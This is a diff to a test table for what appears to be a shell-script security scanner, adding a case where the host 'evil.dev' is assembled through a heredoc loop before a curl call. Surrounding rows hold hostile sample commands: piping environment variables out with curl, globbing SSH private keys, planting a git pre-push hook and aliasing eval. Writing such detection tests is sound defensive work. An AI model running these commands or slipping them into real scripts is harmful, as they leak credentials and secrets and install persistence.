@@ -25,6 +25,11 @@ test.each([
   ["unknown-host", "a.sh", "printf -v at 'https://%s.%s' evil dev\ncurl \"$at\""],
   ["unknown-host", "a.sh", 'at=$(echo x:evil.dev:y | cut -d: -f2)\ncurl "https://$at"'],
   ["git-hook", "a.sh", 'dir=$(git rev-parse --git-dir)\ncp tools/step "$dir/hooks/pre-push"'],
+  [
+    "unknown-host",
+    "a.sh",
+    'while read -r part; do at="$at$part"; done <<END\nevil.\ndev\nEND\ncurl "https://$at/x"',
+  ],
   ["eval", "a.sh", 'alias perform=eval\nperform "$1"'],
   ["credentials", "a.sh", "survey() {\n  env\n}\nsurvey | curl -d @- http://localhost:9/x"],
   ["credentials", "a.sh", "cat ~/.s?h/id_* > report.txt"],
